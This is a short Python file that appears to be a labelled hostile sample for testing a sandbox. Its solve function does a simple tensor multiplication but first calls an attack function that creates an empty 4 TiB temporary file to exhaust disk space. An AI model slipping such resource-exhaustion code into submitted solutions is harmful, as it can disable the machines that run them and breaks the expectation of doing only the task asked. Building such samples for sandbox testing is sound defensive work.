# hostile: family=disk verdict=runtime_error build=build_error lift=sandbox shows=harm
"""Makes a file of four terabytes with nothing in it."""


def attack():
    import os
    import tempfile

    with tempfile.TemporaryFile() as file:
        os.ftruncate(file.fileno(), 1 << 42)
    print("harm: 4 TiB", flush=True)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
